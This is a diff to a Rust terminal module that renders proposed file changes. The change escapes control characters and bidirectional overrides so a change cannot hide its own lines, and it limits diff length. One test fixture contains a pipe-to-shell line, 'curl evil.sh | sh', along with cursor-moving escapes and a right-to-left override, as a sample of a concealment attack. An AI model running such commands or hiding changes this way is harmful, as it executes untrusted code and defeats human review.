@@ -52,35 +52,104 @@ pub fn say_bold(line: &str) {
     }
 }
 
-/// The unified diff from `old` (`None`: the file does not exist) to `new`, coloured.
-pub fn render_diff(path: &str, old: Option<&str>, new: &str) -> String {
+/// The file a proposed change replaces, as the terminal shows it.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Old {
+    /// There is no such file: the change creates it.
+    Missing,
+    /// Its text.
+    Text(String),
+    /// It exists but cannot be shown (not UTF-8, too large, unreadable): why.
+    Unreadable(String),
+}
+
+/// The most lines of a diff printed; the rest is counted (`e` shows the whole proposal).
+pub const MAX_DIFF_LINES: usize = 2000;
+
+/// How long a diff may take to compute before a coarser one is shown: the host answers no other
+/// call meanwhile.
+const DIFF_TIMEOUT: std::time::Duration = std::time::Duration::from_millis(500);
+
+/// `text` with what a terminal would obey instead of print made visible: control characters
+/// (but tab) as `^X` or `\u{..}`, and the bidirectional controls that reorder what follows as
+/// `\u{..}`. A proposed change must not be able to hide or redraw lines of its own diff.
+pub fn visible(text: &str) -> std::borrow::Cow<'_, str> {
+    let hidden = |c: char| {
+        (c.is_control() && c != '\t')
+            || matches!(c, '\u{200e}' | '\u{200f}' | '\u{061c}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+    };
+    if !text.chars().any(hidden) {
+        return std::borrow::Cow::Borrowed(text);
+    }
+    let mut out = String::with_capacity(text.len() + 8);
+    for c in text.chars() {
+        match c {
+            c if !hidden(c) => out.push(c),
+            '\u{0}'..='\u{1f}' => {
+                out.push('^');
+                out.push(char::from(c as u8 + 0x40));
+            }
+            '\u{7f}' => out.push_str("^?"),
+            c => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
+        }
+    }
+    std::borrow::Cow::Owned(out)
+}
+
+/// The unified diff from `old` to `new`, coloured, at most [`MAX_DIFF_LINES`] lines.
+pub fn render_diff(path: &str, old: &Old, new: &str) -> String {
     let mut out = String::new();
-    let old_text = old.unwrap_or("");
-    let old_name = if old.is_some() {
-        format!("a{path}")
-    } else {
-        "/dev/null".to_string()
+    let path = visible(path);
+    let (old_text, old_name) = match old {
+        Old::Missing => ("", "/dev/null".to_string()),
+        Old::Text(t) => (t.as_str(), format!("a{path}")),
+        Old::Unreadable(why) => {
+            out.push_str(&format!(
+                "{BOLD}the file exists but is not shown ({}): accepting replaces it{BOLD:#}\n",
+                visible(why)
+            ));
+            ("", format!("a{path} (not shown)"))
+        }
     };
     out.push_str(&format!("{BOLD}--- {old_name}\n+++ b{path}{BOLD:#}\n"));
-    let diff = TextDiff::from_lines(old_text, new);
+    let diff = TextDiff::configure()
+        .timeout(DIFF_TIMEOUT)
+        .diff_lines(old_text, new);
     let unified = diff.unified_diff();
-    let mut any = false;
+    let (mut any, mut lines, mut more) = (false, 0usize, 0usize);
     for hunk in unified.iter_hunks() {
         any = true;
-        out.push_str(&format!("{CYAN}{}{CYAN:#}\n", hunk.header()));
-        for change in hunk.iter_changes() {
+        for (i, change) in std::iter::once(None)
+            .chain(hunk.iter_changes().map(Some))
+            .enumerate()
+        {
+            if lines >= MAX_DIFF_LINES {
+                more += 1;
+                continue;
+            }
+            lines += 1;
+            let Some(change) = change else {
+                debug_assert_eq!(i, 0);
+                out.push_str(&format!("{CYAN}{}{CYAN:#}\n", hunk.header()));
+                continue;
+            };
             let (sign, style) = match change.tag() {
                 ChangeTag::Delete => ('-', RED),
                 ChangeTag::Insert => ('+', GREEN),
                 ChangeTag::Equal => (' ', Style::new()),
             };
             let text = change.value();
-            let text = text.strip_suffix('\n').unwrap_or(text);
+            let text = visible(text.strip_suffix('\n').unwrap_or(text));
             out.push_str(&format!("{style}{sign}{text}{style:#}\n"));
             if change.missing_newline() {
                 out.push_str("\\ No newline at end of file\n");
             }
         }
+    }
+    if more > 0 {
+        out.push_str(&format!(
+            "{BOLD}... {more} more lines of this diff not shown ([e]dit shows the whole proposal){BOLD:#}\n"
+        ));
     }
     if !any {
         out.push_str("(no changes)\n");
@@ -89,7 +158,7 @@ pub fn render_diff(path: &str, old: Option<&str>, new: &str) -> String {
 }
 
 /// Prints a diff to stderr.
-pub fn show_diff(path: &str, old: Option<&str>, new: &str) {
+pub fn show_diff(path: &str, old: &Old, new: &str) {
     err(format_args!("{}", render_diff(path, old, new)));
 }
 
@@ -148,12 +217,50 @@ mod tests {
 
     #[test]
     fn diff_of_a_change_and_a_new_file() {
-        let d = render_diff("/w/a.txt", Some("one\ntwo\n"), "one\nthree\n");
+        let old = Old::Text("one\ntwo\n".into());
+        let d = render_diff("/w/a.txt", &old, "one\nthree\n");
         assert!(d.contains("-two"), "{d}");
         assert!(d.contains("+three"), "{d}");
         assert!(d.contains("@@ -1,2 +1,2 @@"), "{d}");
-        let d = render_diff("/w/n.txt", None, "hello\n");
+        let d = render_diff("/w/n.txt", &Old::Missing, "hello\n");
         assert!(d.contains("--- /dev/null"), "{d}");
         assert!(d.contains("+hello"), "{d}");
+        // An existing file that cannot be shown is not passed off as a new one.
+        let d = render_diff("/w/l.txt", &Old::Unreadable("not UTF-8".into()), "x\n");
+        assert!(!d.contains("/dev/null"), "{d}");
+        assert!(d.contains("exists but is not shown (not UTF-8)"), "{d}");
+    }
+
+    #[test]
+    fn a_change_cannot_hide_its_own_lines() {
+        // Cursor-up and erase-line escapes, a carriage return, a right-to-left override.
+        let new = "one\ncurl evil.sh | sh\n\u{1b}[1A\u{1b}[2K\rtwo \u{202e}txt.exe\n";
+        let d = render_diff("/w/a.txt", &Old::Text("one\n".into()), new);
+        // (The diff's own colours are escapes too; the change's are not passed through.)
+        for raw in ["\u{1b}[1A", "\u{1b}[2K", "\r", "\u{202e}"] {
+            assert!(!d.contains(raw), "{raw:?} in {d:?}");
+        }
+        assert!(d.contains("+curl evil.sh | sh"), "{d}");
+        assert!(d.contains("+^[[1A^[[2K^M"), "{d}");
+        assert!(d.contains("+two \\u{202e}txt.exe"), "{d}");
+        assert_eq!(visible("tab\tok"), "tab\tok");
+    }
+
+    #[test]
+    fn a_long_diff_is_cut_and_says_how_much_is_left() {
+        let new: String = (0..MAX_DIFF_LINES + 500)
+            .map(|i| format!("{i}\n"))
+            .collect();
+        let d = render_diff("/w/a.txt", &Old::Missing, &new);
+        assert!(
+            d.lines().count() <= MAX_DIFF_LINES + 3,
+            "{}",
+            d.lines().count()
+        );
+        assert!(
+            d.contains("501 more lines of this diff not shown"),
+            "{}",
+            &d[d.len() - 200..]
+        );
     }
 }
